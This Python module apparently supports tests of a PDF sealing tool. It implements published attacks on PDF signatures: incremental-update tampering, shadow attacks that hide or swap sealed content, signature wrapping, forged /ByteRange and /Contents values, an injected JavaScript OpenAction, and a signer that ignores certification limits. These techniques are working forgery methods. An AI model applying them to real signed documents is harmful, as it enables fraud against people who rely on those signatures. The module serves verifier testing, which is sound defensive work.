"""Ways to alter a sealed PDF, from the published attacks on PDF signatures (pdf-insecurity.org) and plainer ones."""

from __future__ import annotations

import io
import re
from collections.abc import Callable, Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from pyhanko.pdf_utils.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    Reference,
    StreamObject,
    TextStringObject,
    pdf_name,
)
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.misc import PdfReadError
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import PdfSignatureMetadata, PdfSigner
from pyhanko.sign.fields import SigFieldSpec, SigSeedSubFilter

from signing import seal

Attack = Callable[[bytes], bytes]
CONTENTS = re.compile(rb"/Contents <([0-9A-Fa-f]+)>")
BYTE_RANGE = re.compile(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)\] *")
FALSE_PAGE = b"BT /F1 24 Tf 20 40 Td (Total 1,00) Tj ET"


def smallest_pdf() -> bytes:
    """One page and a line on it, so that every single byte of its sealed form can be tried."""
    objects = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 4 0 R/Resources<<>>>>",
        b"<</Length 16>>stream\n0 0 m 100 50 l S\nendstream",
    )
    out, offsets = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    head = b"xref\n0 5\n0000000000 65535 f \n" + table + b"trailer\n<</Size 5/Root 1 0 R>>\n"
    return out + head + b"startxref\n%d\n%%%%EOF\n" % len(out)


def contents_of(pdf: bytes) -> range:
    """Where the seal itself stands, between its angle brackets: the one place that it cannot cover."""
    found = last_contents(pdf)
    return range(found.start(1), found.end(1))


def last_contents(pdf: bytes) -> re.Match[bytes]:
    return list(CONTENTS.finditer(pdf))[-1]


def flipped(pdf: bytes, position: int, bit: int) -> bytes:
    return pdf[:position] + bytes([pdf[position] ^ (1 << bit)]) + pdf[position + 1 :]


def truncations(pdf: bytes, *, pieces: int) -> Iterator[bytes]:
    """Cut at so many places, keeping either end, and just before the end."""
    step = max(1, len(pdf) // pieces)
    for length in (*range(0, len(pdf), step), len(pdf) - 1, len(pdf) - 6):
        yield pdf[:length]
        yield pdf[-length:] if length else b""


# Appended updates


def _updated(change: Callable[[IncrementalPdfFileWriter], None]) -> Attack:
    def attack(pdf: bytes) -> bytes:
        writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
        change(writer)
        out = io.BytesIO()
        writer.write(out)
        return out.getvalue()

    return attack


def _first_page(writer: IncrementalPdfFileWriter) -> DictionaryObject:
    page = writer.root["/Pages"]["/Kids"][0]
    assert isinstance(page, DictionaryObject)
    return page


def _touch_catalogue(writer: IncrementalPdfFileWriter) -> None:
    writer.update_root()


def _other_language(writer: IncrementalPdfFileWriter) -> None:
    writer.root[pdf_name("/Lang")] = TextStringObject("en")
    writer.update_root()


def _note(writer: IncrementalPdfFileWriter, *, hidden: bool = False) -> None:
    """A note stuck on the page, whose opaque box covers what stands under it."""
    box = ArrayObject(map(FloatObject, (0, 0, 200, 100)))
    note = DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): box,
            pdf_name("/Contents"): TextStringObject("Total 1,00"),
            pdf_name("/F"): NumberObject(2 if hidden else 4),
        }
    )
    page = _first_page(writer)
    page[pdf_name("/Annots")] = ArrayObject([*page.get("/Annots", ()), writer.add_object(note)])
    writer.update_container(page)


def _add_page(writer: IncrementalPdfFileWriter) -> None:
    pages = writer.root["/Pages"]
    page = DictionaryObject(_first_page(writer))
    pages["/Kids"].append(writer.add_object(page))
    pages[pdf_name("/Count")] = NumberObject(len(pages["/Kids"]))
    writer.update_container(pages)
    writer.update_container(pages["/Kids"])


def _remove_page(writer: IncrementalPdfFileWriter) -> None:
    pages = writer.root["/Pages"]
    pages["/Kids"].pop()
    pages[pdf_name("/Count")] = NumberObject(len(pages["/Kids"]))
    writer.update_container(pages)
    writer.update_container(pages["/Kids"])


def _other_words_on_page(writer: IncrementalPdfFileWriter) -> None:
    page = _first_page(writer)
    page[pdf_name("/Contents")] = writer.add_object(StreamObject(stream_data=FALSE_PAGE))
    writer.update_container(page)


def _other_attachments(writer: IncrementalPdfFileWriter) -> None:
    writer.root[pdf_name("/Names")] = DictionaryObject()
    writer.root[pdf_name("/AF")] = ArrayObject()
    writer.update_root()


def _script(writer: IncrementalPdfFileWriter) -> None:
    action = {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): TextStringObject("app.alert(1)")}
    writer.root[pdf_name("/OpenAction")] = DictionaryObject(action)
    writer.update_root()


def _other_info(writer: IncrementalPdfFileWriter) -> None:
    writer.set_info(DictionaryObject({pdf_name("/Title"): TextStringObject("Autre devis")}))


def _security_store(writer: IncrementalPdfFileWriter) -> None:
    """What DocMDP lets pass, and a document at level B-B or B-T still has no reason to hold."""
    writer.root[pdf_name("/DSS")] = writer.add_object(DictionaryObject({pdf_name("/Certs"): ArrayObject()}))
    writer.update_root()


class Heedless(PdfSigner):
    """Signs although the seal allows no change."""

    def _enforce_certification_constraints(self, reader: PdfFileReader) -> None:
        pass


def signed_again(key: Path) -> Attack:
    """A second signature, by a stranger, over everything."""
    signer = seal.load_signer(key, "x")

    def attack(pdf: bytes) -> bytes:
        metadata = PdfSignatureMetadata(
            field_name="Autre", md_algorithm="sha256", subfilter=SigSeedSubFilter.PADES
        )
        signing = Heedless(metadata, signer=signer.pyhanko, new_field_spec=SigFieldSpec("Autre"))
        with ThreadPoolExecutor(max_workers=1) as apart:  # where no browser test has left its loop
            out: io.BytesIO = apart.submit(
                signing.sign_pdf, IncrementalPdfFileWriter(io.BytesIO(pdf))
            ).result()
        return out.getvalue()

    return attack


# Shadow attacks: what was prepared before sealing is uncovered after it


def prepare_hide(pdf: bytes) -> bytes:
    """A box, drawn over the text before sealing, that an update takes away."""
    return _updated(_note)(pdf)


def _free_note(writer: IncrementalPdfFileWriter) -> None:
    page = _first_page(writer)
    page[pdf_name("/Annots")] = ArrayObject(
        [each for each in page["/Annots"] if each.get_object().get("/Subtype") != "/FreeText"]
    )
    writer.update_container(page)


def prepare_replace(pdf: bytes) -> bytes:
    """A font, named before sealing, whose shapes an update exchanges: the digits say something else."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        font = {"/Type": "/Font", "/Subtype": "/Type1", "/BaseFont": "/Helvetica"}
        made = DictionaryObject({pdf_name(key): pdf_name(value) for key, value in font.items()})
        page = _first_page(writer)
        resources = DictionaryObject(page["/Resources"])
        fonts = DictionaryObject(resources.get("/Font", {}))
        fonts[pdf_name("/Shadow")] = writer.add_object(made)
        resources[pdf_name("/Font")] = fonts
        page[pdf_name("/Resources")] = resources
        writer.update_container(page)

    return _updated(change)(pdf)


def _other_font(writer: IncrementalPdfFileWriter) -> None:
    font = _first_page(writer)["/Resources"]["/Font"]["/Shadow"]
    font[pdf_name("/BaseFont")] = pdf_name("/ZapfDingbats")
    writer.update_container(font)


def prepare_hide_and_replace(pdf: bytes) -> bytes:
    """A second catalogue with pages of its own, sealed with the rest and pointed at by nobody."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = DictionaryObject({NameObject(key): value for key, value in _first_page(writer).items()})
        page[pdf_name("/Contents")] = writer.add_object(StreamObject(stream_data=FALSE_PAGE))
        kids = ArrayObject([writer.add_object(page)])
        pages = {
            pdf_name("/Type"): pdf_name("/Pages"),
            pdf_name("/Kids"): kids,
            pdf_name("/Count"): NumberObject(1),
        }
        catalogue = {
            pdf_name("/Type"): pdf_name("/Catalog"),
            pdf_name("/Pages"): writer.add_object(DictionaryObject(pages)),
            pdf_name("/Shadow"): NumberObject(1),
        }
        writer.add_object(DictionaryObject(catalogue))

    return _updated(change)(pdf)


def show_second_catalogue(pdf: bytes) -> bytes:
    """Nothing but a table and a trailer, whose /Root is the catalogue that was hidden."""
    reader = PdfFileReader(io.BytesIO(pdf))
    size = int(reader.trailer["/Size"])
    hidden = next(number for number in range(1, size) if _is_hidden_catalogue(reader, number))
    trailer = b"xref\n0 0\ntrailer\n<</Size %d/Root %d 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
    return pdf + trailer % (size, hidden, reader.last_startxref, len(pdf))


def _is_hidden_catalogue(reader: PdfFileReader, number: int) -> bool:
    try:
        content = reader.get_object(Reference(number, 0, reader))
    except PdfReadError:
        return False
    return isinstance(content, DictionaryObject) and "/Shadow" in content


# Signature wrapping and forged signature dictionaries


def wrapped(pdf: bytes, *, own_range: bool = True) -> bytes:
    """What was signed is all still there, in two pieces with a gap between them in which other words stand.

    A second signature dictionary, with the same seal and a /ByteRange that leaves the gap out, takes the place of
    the first one: the digest holds, and only a look at what the signature leaves out finds it.
    """
    _, length, restart, rest = _byte_range(pdf)
    found = list(re.finditer(rb"\n(\d+) 0 obj\n<<\n/Contents <", pdf))[-1]
    dictionary = pdf[found.start() + 1 : pdf.index(b"endobj", restart) + len(b"endobj\n")]
    words = b"4 0 obj\n<</Length %d>>stream\n%s\nendstream\nendobj\n" % (len(FALSE_PAGE), FALSE_PAGE)
    shift = len(dictionary) + len(words)
    if own_range:
        dictionary = _with_range(dictionary, b"/ByteRange [0 %d %d %d]" % (length, restart + shift, rest))
    moved = pdf[:restart] + dictionary + words + pdf[restart:]
    entries = {int(found[1]): restart, 4: restart + len(dictionary)}
    table = b"".join(b"%d 1\n%010d 00000 n \n" % entry for entry in sorted(entries.items()))
    reader = PdfFileReader(io.BytesIO(pdf))
    root = reader.trailer.raw_get("/Root").reference.idnum
    trailer = b"xref\n%strailer\n<</Size %d/Root %d 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
    previous = (reader.last_startxref or 0) + shift
    return moved + trailer % (table, int(reader.trailer["/Size"]), root, previous, len(moved))


def wrapped_without_range(pdf: bytes) -> bytes:
    """The same, trusting a reader that takes the signed pieces from where they used to stand."""
    return wrapped(pdf, own_range=False)


def _byte_range(pdf: bytes) -> tuple[int, int, int, int]:
    found = list(BYTE_RANGE.finditer(pdf))[-1]
    start, length, restart, rest = map(int, found.groups())
    return start, length, restart, rest


def _with_range(pdf: bytes, words: bytes | None) -> bytes:
    """Another /ByteRange in the room that the first one has."""
    found = list(BYTE_RANGE.finditer(pdf))
    if words is None or not found:
        return pdf
    room = found[-1].end() - found[-1].start()
    return pdf[: found[-1].start()] + words.ljust(room)[:room] + pdf[found[-1].end() :]


def _range(make: Callable[[tuple[int, int, int, int]], bytes]) -> Attack:
    return lambda pdf: _with_range(pdf, make(_byte_range(pdf)))


def with_contents(make: Callable[[bytes], bytes]) -> Attack:
    """Another spelling of the seal in the same room; `make` gets and gives hexadecimal digits."""

    def attack(pdf: bytes) -> bytes:
        found = last_contents(pdf)
        room = found.end(1) - found.start(1)
        return pdf[: found.start(1)] + make(found[1])[:room].ljust(room, b"0") + pdf[found.end(1) :]

    return attack


def with_contents_of(other: bytes) -> Attack:
    """The seal of another document of ours."""
    digits = last_contents(other)[1]
    return with_contents(lambda _: digits)


def _without(key: bytes) -> Attack:
    """A signature dictionary in which a key has another name."""
    return lambda pdf: key.join(pdf.rsplit(key, 1)[:1]) + key[:-1] + b"X" + pdf.rsplit(key, 1)[1]


ATTACKS: Mapping[str, Mapping[str, Attack]] = {
    "ajouts à la fin": {
        "a line feed": lambda pdf: pdf + b"\n",
        "a comment": lambda pdf: pdf + b"%Total 1,00\n",
        "a second end": lambda pdf: pdf + b"startxref\n0\n%%EOF\n",
        "the catalogue again": _updated(_touch_catalogue),
        "another language": _updated(_other_language),
        "a note": _updated(_note),
        "a hidden note": _updated(lambda writer: _note(writer, hidden=True)),
        "a page": _updated(_add_page),
        "a page less": _updated(_remove_page),
        "other words on the page": _updated(_other_words_on_page),
        "no attachments": _updated(_other_attachments),
        "a script": _updated(_script),
        "another title": _updated(_other_info),
        "a security store": _updated(_security_store),
        "something before the start": lambda pdf: b"%\n" + pdf,
    },
    "enveloppement": {
        "moved end": wrapped,
        "moved end, old range": wrapped_without_range,
        "range of the first part": _range(lambda r: b"/ByteRange [0 %d %d 0]" % (r[1], r[2])),
        "range of nothing": _range(lambda _: b"/ByteRange [0 0 0 0]"),
        "negative range": _range(lambda r: b"/ByteRange [0 %d -%d %d]" % (r[1], r[2], r[3])),
        "range that starts later": _range(lambda r: b"/ByteRange [1 %d %d %d]" % (r[1] - 1, r[2], r[3])),
        "range null": _range(lambda _: b"/ByteRange null"),
        "no range": _without(b"/ByteRange"),
        "no contents": _without(b"/Contents"),
        "no subfilter": _without(b"/SubFilter"),
        "no DocMDP": _without(b"/DocMDP"),
    },
    "/Contents": {
        "empty": with_contents(lambda digits: b""),
        "null byte": with_contents(lambda digits: b"00" + digits),
        "small letters": with_contents(bytes.lower),
        "spaces": with_contents(lambda digits: digits[:8] + b"  " + digits[10:]),
        "words in the padding": with_contents(lambda digits: digits[:-8] + b"DEADBEEF"),
    },
}
SHADOWS: Mapping[str, tuple[Attack, Attack]] = {
    "hide": (prepare_hide, _updated(_free_note)),
    "replace": (prepare_replace, _updated(_other_font)),
    "hide and replace": (prepare_hide_and_replace, show_second_catalogue),
}
